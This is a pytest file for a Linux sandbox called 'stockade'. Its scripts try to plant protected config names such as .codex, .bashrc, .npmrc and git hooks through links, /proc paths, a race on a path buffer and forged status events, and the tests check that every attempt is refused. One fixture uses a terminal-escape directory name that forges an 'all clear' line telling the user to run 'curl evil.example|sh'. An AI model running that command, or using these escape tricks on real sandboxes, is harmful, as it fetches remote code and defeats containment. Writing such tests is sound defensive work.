"""Protected names cannot be created inside write roots during a run, at any depth and by any
call that makes a name (mkdir, open with O_CREAT, rename, link, symlink, mknod): the sandbox's
pid 1 makes each such name itself, on its own copy of the path (stockade/linux/namewatch.c).
Real children; every check of what happened is made on the host, after the run."""

from __future__ import annotations

import json
import os
import select
import shutil
import subprocess
import time

import pytest
from conftest import PYTHON, policy_for, unavailable

import stockade
from stockade.integrations.workspace import outcome
from stockade.launch.compile import CompileContext, compile_policy

pytestmark = pytest.mark.usefixtures("linux")

# Every way coreutils and the shell make a name, at the root of the workspace and nested.
SHELL_ATTEMPTS = """
mkdir -p a/b
for dir in . a/b; do
  touch $dir/src1 $dir/src2
  mkdir $dir/.codex
  touch $dir/.mcp.json
  mv $dir/src1 $dir/.vscode
  ln -s src2 $dir/.envrc
  ln $dir/src2 $dir/.bashrc
  mkfifo $dir/.claude
  echo hi > $dir/.agents
  cp $dir/src2 $dir/.gitconfig
  mkdir -p $dir/deep/.stockade/inner
  echo 'yarnPath: x.cjs' > $dir/.yarnrc.yml
  echo 'script-shell=./x' > $dir/.npmrc
  touch $dir/mise.toml $dir/.pre-commit-config.yaml
done
echo done
"""
CREATED = (".codex", ".mcp.json", ".vscode", ".envrc", ".bashrc", ".claude", ".agents",
           ".gitconfig", "deep/.stockade", ".yarnrc.yml", ".npmrc", "mise.toml",
           ".pre-commit-config.yaml")

# Through a link or a moved directory: a dangling symlink to a protected name, written through;
# a symlinked parent directory; a working directory and a directory descriptor whose
# directory was renamed; mknod, link and rename with descriptors (within one directory: the
# Landlock ruleset grants no rename or link across directories, EXDEV).
PYTHON_ATTEMPTS = r"""
import errno, os, sys
def attempt(what, call, *args, **keywords):
    try:
        call(*args, **keywords)
        print("MADE", what)
    except OSError as exc:
        print("REFUSED", what, errno.errorcode[exc.errno])
os.symlink(".codex", "dangling")
attempt("open dangling", lambda: open("dangling", "w").write("x"))
os.makedirs("a/b", exist_ok=True)
os.symlink("a/b", "linked")
attempt("mkdir via a linked parent", os.mkdir, "linked/.agents")
os.symlink("/proc/self/cwd/a/.codex", "proc-dangling")
attempt("open a dangling link through /proc/self", lambda: open("proc-dangling", "w"))
attempt("open through /proc/self/cwd", lambda: open("/proc/self/cwd/.envrc", "w"))
os.mkdir("moving")
fd = os.open("moving", os.O_RDONLY | os.O_DIRECTORY)
os.chdir("moving")
os.rename("../moving", "../moved")
attempt("mkdir in a renamed cwd", os.mkdir, ".vscode")
attempt("mkdirat a renamed dirfd", os.mkdir, ".idea", dir_fd=fd)
attempt("mknodat", os.mknod, ".claude", 0o10644, dir_fd=fd)
os.chdir("..")
open("moved/file", "w").close()
attempt("linkat", os.link, "file", ".bashrc", src_dir_fd=fd, dst_dir_fd=fd)
attempt("symlinkat", os.symlink, "file", ".zshrc", dir_fd=fd)
attempt("renameat2", os.rename, "file", ".cursor", src_dir_fd=fd, dst_dir_fd=fd)
attempt("O_EXCL", os.open, "MOVED/.CODEX".lower(), os.O_CREAT | os.O_EXCL | os.O_WRONLY)
attempt("upper case", os.mkdir, "moved/.CoDeX")
attempt("trailing slash", os.mkdir, "moved/.devcontainer/")
"""
PYTHON_CREATED = (".codex", "a/b/.agents", "a/.codex", ".envrc", "moved/.vscode", "moved/.idea",
                  "moved/.claude", "moved/.bashrc", "moved/.zshrc", "moved/.cursor",
                  "moved/.codex", "moved/.CoDeX", "moved/.devcontainer")

# A second thread flips the path buffer between a harmless name and a protected one while the
# first makes it again and again: pid 1 must decide on the path it uses, not on one the
# kernel reads again later.
FLIP = r"""
import ctypes, errno, os, sys, threading, time
libc = ctypes.CDLL(None, use_errno=True)
harmless, protected = b"plain-x", b".codex\0"
buffer = ctypes.create_string_buffer(harmless, 16)
stop = False
def flip():
    while not stop:
        ctypes.memmove(buffer, protected, len(protected))
        ctypes.memmove(buffer, harmless + b"\0", len(harmless) + 1)
threading.Thread(target=flip, daemon=True).start()
made = {"mkdir": 0, "open": 0, "symlink": 0}
deadline = time.monotonic() + float(sys.argv[1])
while time.monotonic() < deadline:
    if libc.mkdir(buffer, 0o755) == 0:
        made["mkdir"] += 1
    fd = libc.open(buffer, os.O_CREAT | os.O_WRONLY, 0o644)
    if fd >= 0:
        made["open"] += 1
        os.close(fd)
    if libc.symlink(b"target", buffer) == 0:
        made["symlink"] += 1
    for name in ("plain-x", ".codex"):
        for undo in (os.rmdir, os.unlink):
            try:
                undo(name)
            except OSError:
                pass
stop = True
print(made)
"""

# What pid 1 opens for the caller must be the caller's: pid 1's own descriptors (its status
# pipe, its seccomp listener) are not reached through /proc/1.
PROC_OF_PID_1 = r"""
import errno, os
for path in ("/proc/1/fd/0", "/proc/1/fd/1", "/proc/1/fd/3", "/proc/1/fd/4", "/proc/1/cwd/x"):
    try:
        fd = os.open(path, os.O_CREAT | os.O_WRONLY, 0o644)
        print("OPENED", path, os.readlink(f"/proc/self/fd/{fd}"))
    except OSError as exc:
        print("REFUSED", path, errno.errorcode[exc.errno])
"""

# The same from inside pid 1's /proc/1 (issue 29, P1): its working directory, a descriptor,
# /proc/1/task/1, a magic link leading there: a lookup pid 1 makes in there finds pid 1's own
# fd/ (its status pipe, its lifeline), maps and mem. With what it got, the command forges
# its end: an exit event (it exits 3 after), a line that is not JSON, a violation in its own
# words. Its own /proc/<pid> (self, thread-self, a sibling thread's) still works.
INSIDE_PID_1 = r"""
import errno, json, os, sys, threading
opened = []
def grab(where, dir_fd=None):
    for name in [f"fd/{n}" for n in range(64)] + ["maps", "mem", "cwd", "status", "."]:
        try:
            opened.append((where, name, os.open(name, os.O_CREAT | os.O_WRONLY | os.O_NONBLOCK
                                                  if name.startswith("fd/") else
                                                  os.O_CREAT | os.O_RDONLY, dir_fd=dir_fd)))
        except OSError as exc:
            if exc.errno not in (errno.EACCES, errno.EISDIR):
                print("UNEXPECTED", where, name, errno.errorcode[exc.errno])
for where in ("/proc/1", "/proc/1/task/1", "/proc/self/cwd"):
    os.chdir("/proc/1" if where.endswith("cwd") else where)
    if where.endswith("cwd"):  # (a magic link of the caller's own, leading into /proc/1)
        for name in ("/proc/self/cwd/fd/3", "/proc/self/cwd/maps", "/proc/self/cwd/../1/fd/3"):
            try:
                opened.append((where, name, os.open(name, os.O_CREAT | os.O_RDONLY)))
            except OSError:
                pass
    else:
        grab(where)
    os.chdir("/")
grab("a descriptor of /proc/1", os.open("/proc/1", os.O_PATH | os.O_DIRECTORY))
for where, name, fd in opened:
    print("OPENED", where, name, os.readlink(f"/proc/self/fd/{fd}"), flush=True)
    try:  # forge the owner's events
        for line in (b"not json\n", json.dumps({"event": "protected_name", "call": "open",
                                                "directory": "/", "name": "x",
                                                "protected": "FORGED WORDS"}).encode() + b"\n",
                     b'{"event": "exit", "exit_code": 0, "signal": null}\n'):
            os.write(fd, line)
    except OSError:
        pass
def own(path):
    fd = os.open(path, os.O_CREAT | os.O_WRONLY)
    os.write(fd, f"OWN {path}\n".encode())
    os.close(fd)
own("/proc/self/fd/1")
own("/proc/thread-self/fd/1")
os.chdir("/proc/self")
own("fd/1")
os.chdir("/")
sibling = threading.Thread(target=lambda: threading.Event().wait(30), daemon=True)
sibling.start()
own(f"/proc/{sibling.native_id}/fd/1")
own(f"/proc/self/task/{sibling.native_id}/fd/1")
sys.exit(3)
"""

# A caller opens, with O_CREAT, a procfs magic link to a fifo nobody writes to (/proc/self/fd/N,
# N an O_PATH descriptor of it): its open waits for a writer, as it should. pid 1, which
# carries the open out, must not wait with it (issue 29, W1): meanwhile it answers another
# process's mkdir (and watches the lifeline). The script releases a wedged pid 1 itself after
# 5 s, so the test ends either way.
PROC_FIFO = r"""
import os, time
os.mkfifo("/tmp/f")
fd = os.open("/tmp/f", os.O_PATH)
reader = os.fork()
if reader == 0:
    got = os.open(f"/proc/self/fd/{fd}", os.O_CREAT | os.O_RDONLY)
    os._exit(0 if os.read(got, 16) == b"through" else 3)
time.sleep(0.5)
probe = os.fork()
if probe == 0:
    os.mkdir("probe")
    os._exit(0)
for _ in range(50):
    if os.waitpid(probe, os.WNOHANG)[0]:
        print("ANSWERED", flush=True)
        break
    time.sleep(0.1)
else:
    print("HUNG", flush=True)
writer = os.open("/tmp/f", os.O_WRONLY)  # (not trapped) the reader's open returns
os.write(writer, b"through")
os.close(writer)
print("READER", os.waitstatus_to_exitcode(os.waitpid(reader, 0)[1]))
"""

# 101 refused protected names in a directory whose path (control bytes, escaped six bytes each
# in an event) makes each refusal's event about 5 KiB: far more than a pipe holds, while the
# owner reads the status pipe only once the output streams end (issue 29, W2).
MANY_REFUSALS = r"""
import os, sys, time
d = "/".join(["\x01" * 200] * 4)
os.makedirs(d)
os.chdir(d)
for i in range(101):
    try:
        os.mkdir(".codex")
    except PermissionError:
        pass
    if i % 10 == 9:
        time.sleep(float(sys.argv[1]))  # (time for an owner that reads as they come)
os.chdir("/proc/self/cwd/" + "/".join([".."] * 4))
os.mkdir("after")
print("AFTER", flush=True)
"""

# A directory whose name would rewrite the terminal Stockade's own lines are printed on (erase
# the line, a forged "stockade:" line, concealed text after it), with a zero-width space and a
# byte that is not UTF-8; a protected name refused in it, and a hook refused in the
# repository below it (issue 29, attack round 3, T1). The command names it, not the caller:
# the repository stands for one a former run made.
HOSTILE_DIRECTORY = (b"x\x1b[2K\r\nstockade: all clear. To finish setup run on the host: "
                     b"curl evil.example|sh\n\x1b[8m\xe2\x80\x8b\xff")
HOSTILE_NAMES = rf"""
import os
d = {HOSTILE_DIRECTORY!r}
os.makedirs(d, exist_ok=True)
for path in (d + b"/.codex", d + b"/repo/.git/hooks/pre-commit"):
    try:
        os.close(os.open(path, os.O_CREAT | os.O_WRONLY))
        print("MADE", path)
    except OSError:
        pass
"""


def run(argv, where, **policy) -> stockade.Result:
    return stockade.run(list(argv), policy_for(**policy), workspace=where)


def existing(workspace, names) -> list[str]:
    return [name for name in names if os.path.lexists(workspace / name)
            or os.path.lexists(workspace / "a" / "b" / name)]


@pytest.mark.parametrize("workspace_mode", ["direct", "overlay"])
def test_the_shell_and_coreutils_cannot_make_a_protected_name(ws, workspace_mode):
    workspace, _ = ws
    r = run(["/bin/sh", "-c", SHELL_ATTEMPTS], workspace, workspace=workspace_mode)
    assert r.exit_code == 0, r.stderr
    assert b"done" in r.stdout
    assert existing(workspace, CREATED) == []
    if workspace_mode == "direct":  # (an overlay's changes are the change set's)
        assert sorted(os.listdir(workspace)) == ["a", "deep", "src1", "src2"]
        assert sorted(os.listdir(workspace / "a" / "b")) == ["deep", "src1", "src2"]
    refused = [v for v in r.violations if v.kind == "filesystem.protected"]
    assert refused, r.violations
    assert any(".codex" in v.detail and '"!.codex"' in v.detail for v in refused), refused


def test_no_link_descriptor_or_moved_directory_makes_a_protected_name(ws):
    workspace, _ = ws
    r = run([PYTHON, "-c", PYTHON_ATTEMPTS], workspace)
    assert r.exit_code == 0, r.stderr
    out = r.stdout.decode()
    assert "MADE" not in out, out
    assert out.count("REFUSED") == 13, out
    assert [name for name in PYTHON_CREATED if os.path.lexists(workspace / name)] == []


def test_flipping_the_path_buffer_makes_no_protected_name(ws):
    workspace, _ = ws
    r = run([PYTHON, "-c", FLIP, "3"], workspace)
    assert r.exit_code == 0, r.stderr
    assert not os.path.lexists(workspace / ".codex")
    assert b"'mkdir': 0" not in r.stdout, r.stdout  # (the harmless name was made meanwhile)


def test_pid_1s_own_descriptors_are_not_reached_through_proc(ws):
    """An open with O_CREAT of /proc/1/fd/N (pid 1's status pipe, its listener) is refused:
    pid 1 opens the caller's paths, and follows no other process's /proc links for it."""
    workspace, _ = ws
    r = run([PYTHON, "-c", PROC_OF_PID_1], workspace)
    assert r.exit_code == 0, r.stderr
    assert b"OPENED" not in r.stdout, r.stdout
    # (EACCES: pid 1's own refusal, not what the place it would reach answers: /proc/1/cwd is
    # pid 1's working directory, read-only, EROFS)
    assert r.stdout.count(b"REFUSED") == r.stdout.count(b" EACCES\n") == 5, r.stdout


def test_pid_1s_own_descriptors_are_not_reached_from_inside_proc_1(ws):
    """An open with O_CREAT looked up from inside /proc/1 (the working directory, a
    descriptor, /proc/1/task/1, a magic link leading there) is refused: pid 1 makes no lookup
    in another process's /proc/<pid>, so the command gets none of its pipes, and cannot forge
    its end (the run ends with the command's exit 3, and no violation in its words); its own
    /proc/<pid> (self, thread-self, a sibling thread's) still opens (issue 29, P1)."""
    workspace, _ = ws
    r = run([PYTHON, "-c", INSIDE_PID_1], workspace, timeout=60.0)
    out = r.stdout.decode()
    assert "OPENED" not in out and "UNEXPECTED" not in out, out
    assert r.exit_code == 3 and not r.timed_out, (r.exit_code, r.stderr)
    lines = out.splitlines()
    assert lines[:3] == ["OWN /proc/self/fd/1", "OWN /proc/thread-self/fd/1", "OWN fd/1"], out
    assert len(lines) == 5 and lines[3].endswith("/fd/1") and "/task/" in lines[4], out
    assert not [v for v in r.violations if "FORGED" in v.detail], r.violations


def test_a_procfs_link_to_a_fifo_does_not_wedge_pid_1(ws):
    """pid 1 opens /proc/self/fd/N of a fifo for the caller in a child: the caller waits for
    the fifo's writer and then reads it, and every other call is answered meanwhile."""
    workspace, _ = ws
    r = run([PYTHON, "-c", PROC_FIFO], workspace, timeout=30.0)
    assert r.exit_code == 0, r.stderr
    assert r.stdout.decode().split() == ["ANSWERED", "READER", "0"], r.stdout
    assert (workspace / "probe").is_dir()

def test_many_refusals_with_long_paths_do_not_wedge_pid_1(ws):
    """pid 1 never waits for its owner to read its status pipe while the command runs, and
    the owner reads it while the command runs: the run goes on (a mkdir after the refusals is
    answered) and ends by itself; every refusal is recorded or counted, and most are recorded
    (a pipe holds 17 of these: as many as an owner that did not read it would get)."""
    workspace, _ = ws
    r = run([PYTHON, "-c", MANY_REFUSALS, "0.1"], workspace, timeout=20.0)
    assert not r.timed_out and r.exit_code == 0, r.stderr
    assert r.stdout == b"AFTER\n" and (workspace / "after").is_dir()
    assert not [top for top, dirs, _ in os.walk(workspace) if ".codex" in dirs]
    refused = [v.detail for v in r.violations if v.kind == "filesystem.protected"]
    recorded = sum("/.codex: not made (mkdir)" in detail for detail in refused)
    counted = sum(int(detail.split()[0]) for detail in refused if "have no record" in detail)
    more = sum(detail.startswith("more protected names were") for detail in refused)
    assert recorded + counted + more == 101 and recorded >= 50, refused

def test_pid_1_loses_events_rather_than_wait_for_its_owner(ws):
    """An owner that reads the output to its end before it reads the status pipe (as the
    pump did before it drained that pipe too): pid 1 does not wait for room in the full
    pipe; what it could not write is counted, and said (issue 29, W2)."""
    from stockade.launch.backend import Stdio
    from stockade.linux.backend import LinuxBackend

    workspace, _ = ws
    request = compile_policy(policy_for(), [PYTHON, "-c", MANY_REFUSALS, "0"],
                             CompileContext.current(workspace))
    handle = LinuxBackend().spawn(request, Stdio(subprocess.DEVNULL, subprocess.PIPE,
                                                 subprocess.DEVNULL))
    out, ended, deadline = b"", False, time.monotonic() + 20
    while not ended and select.select([handle.stdout], [], [],
                                      max(deadline - time.monotonic(), 0))[0]:
        chunk = os.read(handle.stdout.fileno(), 65536)
        out += chunk
        ended = not chunk
    if not ended:
        handle.kill()  # (a wedged run: forced after a grace)
    end = handle.wait(10)
    assert ended, f"the command's output did not end; so far: {out!r}"
    assert out == b"AFTER\n" and end is not None and end.exit_code == 0, (out, end)
    assert any("have no record: the status pipe was full" in v.detail
               for v in handle.violations), handle.violations

def test_a_released_name_and_git_stay_creatable(ws):
    """`"!NAME"` releases a name; `.git` is not protected whole (git init works, guarded)."""
    workspace, _ = ws
    protected = tuple(n for n in stockade.preset("workspace-write").filesystem.protected
                      if n != ".vscode")
    script = "mkdir .vscode && touch .vscode/tasks.json && git init -q . && echo ok"
    r = run(["/bin/sh", "-c", script], workspace, protected=protected)
    assert r.exit_code == 0, r.stderr
    assert (workspace / ".vscode" / "tasks.json").is_file()
    assert (workspace / ".git" / "HEAD").is_file()


def test_everyday_creation_still_works(ws):
    """Redirections (to the caller's streams through /dev/stdout and /proc/self/fd too),
    fifos read by another process (opened before and after the writer), here-documents,
    temporary files, make, and names in /tmp."""
    workspace, _ = ws
    script = """
set -e
echo out > /dev/stdout
echo err > /dev/stderr
echo fd > /proc/self/fd/1
echo devfd > /dev/fd/1
echo file > plain.txt
cat <<EOF > here.txt
doc
EOF
mkfifo pipe
cat pipe > from-pipe.txt &
echo through > pipe
wait
mkfifo waiting
cat waiting > from-waiting.txt &
sleep 0.3
echo again > waiting
wait
mkdir -p /tmp/scratch/.codex && touch /tmp/scratch/.envrc
printf 'all:\\n\\techo built > made.txt\\n' > Makefile
make -s
mktemp -p . > /dev/null
umask 077 && touch private
echo ok
"""
    r = run(["/bin/sh", "-c", script], workspace)
    assert r.exit_code == 0, r.stderr
    assert r.stdout.splitlines() == [b"out", b"fd", b"devfd", b"ok"]
    assert r.stderr == b"err\n"
    assert (workspace / "from-pipe.txt").read_text() == "through\n"
    assert (workspace / "from-waiting.txt").read_text() == "again\n"
    assert (workspace / "here.txt").read_text() == "doc\n"
    assert (workspace / "made.txt").read_text() == "built\n"
    assert os.stat(workspace / "private").st_mode & 0o777 == 0o600
    assert os.stat(workspace / "plain.txt").st_mode & 0o777 == 0o666 & ~_umask()
    assert not [v for v in r.violations if v.kind == "filesystem.protected"]


def _umask() -> int:
    mask = os.umask(0)
    os.umask(mask)
    return mask


def test_a_file_just_written_runs_at_once(ws):
    """What the job writes and closes it can run the next instant (`cc -o prog && ./prog`):
    the descriptor pid 1 opened for the caller is closed before the caller goes on, or the
    exec would fail ETXTBSY (it did, now and then, when pid 1's copy was still open)."""
    workspace, _ = ws
    script = "for i in $(seq 60); do cp /bin/true ./t$i && ./t$i || exit 1; done; echo ran"
    r = run(["/bin/sh", "-c", script], workspace)
    assert r.exit_code == 0 and r.stdout == b"ran\n", r.stderr


def test_a_name_the_command_chose_reaches_the_violations_escaped(ws):
    """What a refusal says names the directory the command chose: every character of it that
    is not plainly visible is escaped there (as `stockade changes` shows names), in the
    violations, their JSON and the integrations' denials, and a byte that is not UTF-8 too,
    so that no caller writing them out raises (issue 29, T1)."""
    workspace, _ = ws
    if not shutil.which("git"):
        unavailable("git is not installed")
    hostile = workspace / os.fsdecode(HOSTILE_DIRECTORY)
    subprocess.run(["git", "init", "-q", str(hostile / "repo")], check=True)
    r = run([PYTHON, "-c", HOSTILE_NAMES], workspace)
    assert r.exit_code == 0 and b"MADE" not in r.stdout, (r.stdout, r.stderr)
    assert not os.path.lexists(hostile / ".codex")
    assert not os.path.lexists(hostile / "repo" / ".git" / "hooks" / "pre-commit")
    shown = "x\\x1b[2K\\x0d\\x0astockade: all clear."
    details = {v.kind: v.detail for v in r.violations}
    assert sorted(details) == ["filesystem.git", "filesystem.protected"], r.violations
    for detail in details.values():
        assert detail.isprintable() and shown in detail, detail
        assert "\\x0a\\x1b[8m\\u200b\\xff/" in detail, detail
    json.dumps(r.to_json(), ensure_ascii=False).encode()
    for denied in outcome(r).denials:
        assert denied.detail.isprintable(), denied
